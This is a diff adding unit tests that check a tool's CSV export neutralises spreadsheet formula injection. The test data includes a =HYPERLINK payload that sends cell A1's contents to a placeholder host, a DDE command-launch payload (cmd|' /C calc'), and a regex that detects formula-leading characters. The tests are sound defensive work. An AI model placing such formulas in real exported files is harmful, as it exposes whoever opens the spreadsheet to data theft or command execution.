@@ -254,6 +254,10 @@ private Q_SLOTS:
     void options_data();
     void options();
     void quoteDiff();
+    void csvInjection_data();
+    void csvInjection();
+    void csvNumericColumns_data();
+    void csvNumericColumns();
     void failedExportKeepsOldFile_data();
     void failedExportKeepsOldFile();
     void commandLine_data();
@@ -536,6 +540,149 @@ void TestExport::quoteDiff()
     QCOMPARE(sheet.attributions.size(), 2);
     const auto mayor = std::find_if(sheet.attributions.begin(), sheet.attributions.end(), [](const SheetAttributionRow &r) { return r.who == u"the mayor"; });
     QCOMPARE(mayor->counts, (QList<int>{1, 1, 0}));
+}
+
+void TestExport::csvInjection_data()
+{
+    // Where the text goes in the fixture, the text, and the cell a spreadsheet program gets.
+    QTest::addColumn<QString>("field");
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<QString>("expected");
+    const QString hyperlink = QStringLiteral("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click, here\")");
+    QTest::addRow("outlet =HYPERLINK") << QStringLiteral("outlet") << hyperlink << u'\'' + hyperlink;
+    QTest::addRow("title +") << QStringLiteral("title") << QStringLiteral("+1+2") << QStringLiteral("'+1+2");
+    QTest::addRow("byline @") << QStringLiteral("byline") << QStringLiteral("@SUM(A1:A9)") << QStringLiteral("'@SUM(A1:A9)");
+    QTest::addRow("claim -") << QStringLiteral("claim") << QStringLiteral("-2+3+cmd|' /C calc'!A0") << QStringLiteral("'-2+3+cmd|' /C calc'!A0");
+    QTest::addRow("claim tab") << QStringLiteral("claim") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1");
+    QTest::addRow("claim CR") << QStringLiteral("claim") << QStringLiteral("\r=1+1") << QStringLiteral("'\r=1+1");
+    QTest::addRow("claim = with quotes and line break") << QStringLiteral("claim") << QStringLiteral("=\"a\",\n\"b\"") << QStringLiteral("'=\"a\",\n\"b\"");
+    // A claim's value column holds words, dates and numbers alike: not a numeric column.
+    QTest::addRow("value -3") << QStringLiteral("value") << QStringLiteral("-3") << QStringLiteral("'-3");
+    QTest::addRow("attribution =") << QStringLiteral("attribution") << QStringLiteral("=1") << QStringLiteral("'=1");
+    QTest::addRow("entity @") << QStringLiteral("entity") << QStringLiteral("@Jon") << QStringLiteral("'@Jon");
+    QTest::addRow("spelling -") << QStringLiteral("spelling") << QStringLiteral("-Jon") << QStringLiteral("'-Jon");
+    // Left as they are: formula characters inside the text, after a space, or already quoted.
+    QTest::addRow("claim a=1") << QStringLiteral("claim") << QStringLiteral("a=1+1, she said") << QStringLiteral("a=1+1, she said");
+    QTest::addRow("claim space =") << QStringLiteral("claim") << QStringLiteral(" =1+1") << QStringLiteral(" =1+1");
+    QTest::addRow("claim quoted") << QStringLiteral("claim") << QStringLiteral("'=1+1") << QStringLiteral("'=1+1");
+    QTest::addRow("claim plain") << QStringLiteral("claim") << QStringLiteral("Schools stay closed.") << QStringLiteral("Schools stay closed.");
+    QTest::addRow("outlet plain") << QStringLiteral("outlet") << QStringLiteral("Daily, \"News\"") << QStringLiteral("Daily, \"News\"");
+}
+
+void TestExport::csvInjection()
+{
+    QFETCH(QString, field);
+    QFETCH(QString, text);
+    QFETCH(QString, expected);
+    // A copy of the fixture to change.
+    const auto a = std::make_shared<Analysis>(*fixture());
+    const auto corpus = std::make_shared<Corpus>(*a->corpus);
+    a->corpus = corpus;
+    Article &first = corpus->articles[0];
+    auto claim = [&a](const QString &id) -> Claim & {
+        return *std::find_if(a->claims.begin(), a->claims.end(), [&id](const Claim &c) { return c.id == id; });
+    };
+    // The table, row id (first cell) and column of the cell that carries the text.
+    CsvTable table = CsvTable::Claims;
+    QString rowId;
+    int column = 0;
+    if (field == u"outlet") {
+        first.outlet = text;
+        table = CsvTable::Sources;
+        rowId = first.id;
+        column = 1;
+    } else if (field == u"title") {
+        first.title = text;
+        table = CsvTable::Sources;
+        rowId = first.id;
+        column = 2;
+    } else if (field == u"byline") {
+        first.byline = text;
+        table = CsvTable::Sources;
+        rowId = first.id;
+        column = 4;
+    } else if (field == u"claim") {
+        claim(QStringLiteral("c4")).members[0].text = text; // unique to a0
+        rowId = QStringLiteral("c4");
+        column = 6;
+    } else if (field == u"value") {
+        claim(QStringLiteral("c1")).members[0].value = text; // the count conflict, a0's value
+        rowId = QStringLiteral("c1");
+        column = 7;
+    } else if (field == u"attribution") {
+        claim(QStringLiteral("c2")).attribution = text;
+        rowId = QStringLiteral("c2");
+        column = 4;
+    } else if (field == u"entity") {
+        a->entities[0].name = text;
+        table = CsvTable::Entities;
+        rowId = a->entities[0].id;
+        column = 2;
+    } else if (field == u"spelling") {
+        a->entities[0].mentions[1].text = text; // Jon Smith in a2: a2's spellings column
+        table = CsvTable::Entities;
+        rowId = a->entities[0].id;
+        column = 5 + 2 * 2 + 1;
+    }
+
+    const Sheet sheet = buildSheet(*a);
+    for (bool bom : {false, true}) {
+        const QByteArray bytes = sheetToCsv(sheet, table, bom);
+        QCOMPARE(bytes.startsWith("\xEF\xBB\xBF"), bom);
+        bool ok = false;
+        const QList<QStringList> rows = parseCsv(QString::fromUtf8(bom ? bytes.mid(3) : bytes), &ok);
+        QVERIFY(ok);
+        QCOMPARE(rows, sheetCsvTable(sheet, table));
+        const auto row = std::find_if(rows.begin() + 1, rows.end(), [&rowId](const QStringList &r) { return r.first() == rowId; });
+        QVERIFY2(row != rows.end(), qPrintable(rowId));
+        QCOMPARE(row->size(), rows.first().size());
+        QCOMPARE(row->at(column), expected);
+        // No cell anywhere starts a formula.
+        for (const QStringList &r : rows) {
+            for (const QString &cell : r) {
+                static const QRegularExpression formula(QStringLiteral("\\A[=+\\-@\\t\\r]"));
+                static const QRegularExpression count(QStringLiteral("\\A-?[0-9]+\\z"));
+                QVERIFY2(!formula.match(cell).hasMatch() || count.match(cell).hasMatch(), qPrintable(cell));
+            }
+        }
+    }
+    if (field == u"outlet") {
+        // The outlet also labels the source's columns in the claims and entities tables.
+        QCOMPARE(sheetCsvTable(sheet, CsvTable::Claims).first().at(6), expected);
+        QCOMPARE(sheetCsvTable(sheet, CsvTable::Entities).first().at(5).startsWith(u'\''), expected.startsWith(u'\''));
+    }
+}
+
+void TestExport::csvNumericColumns_data()
+{
+    QTest::addColumn<QString>("cell");
+    QTest::addColumn<bool>("numeric");
+    QTest::addColumn<QString>("expected");
+    QTest::addRow("-3 in a count column") << QStringLiteral("-3") << true << QStringLiteral("-3");
+    QTest::addRow("-3.5 in a count column") << QStringLiteral("-3.5") << true << QStringLiteral("-3.5");
+    QTest::addRow("+7 in a count column") << QStringLiteral("+7") << true << QStringLiteral("+7");
+    QTest::addRow("12 in a count column") << QStringLiteral("12") << true << QStringLiteral("12");
+    QTest::addRow("-3 in a text column") << QStringLiteral("-3") << false << QStringLiteral("'-3");
+    QTest::addRow("formula in a count column") << QStringLiteral("-3+A1") << true << QStringLiteral("'-3+A1");
+    QTest::addRow("=3 in a count column") << QStringLiteral("=3") << true << QStringLiteral("'=3");
+    QTest::addRow("-3 then a line break") << QStringLiteral("-3\n") << true << QStringLiteral("'-3\n");
+    QTest::addRow("empty") << QString() << false << QString();
+    QTest::addRow("lone -") << QStringLiteral("-") << false << QStringLiteral("'-");
+}
+
+void TestExport::csvNumericColumns()
+{
+    QFETCH(QString, cell);
+    QFETCH(bool, numeric);
+    QFETCH(QString, expected);
+    QCOMPARE(csvNeutralised(cell, numeric), expected);
+    // Neutralising twice changes nothing.
+    QCOMPARE(csvNeutralised(csvNeutralised(cell, numeric), numeric), expected);
+    // The encoder keeps RFC 4180 quoting around what it is given.
+    bool ok = false;
+    const QList<QStringList> rows{{expected, QStringLiteral("x")}};
+    QCOMPARE(parseCsv(QString::fromUtf8(csvEncode(rows, false)), &ok), rows);
+    QVERIFY(ok);
 }
 
 void TestExport::failedExportKeepsOldFile_data()
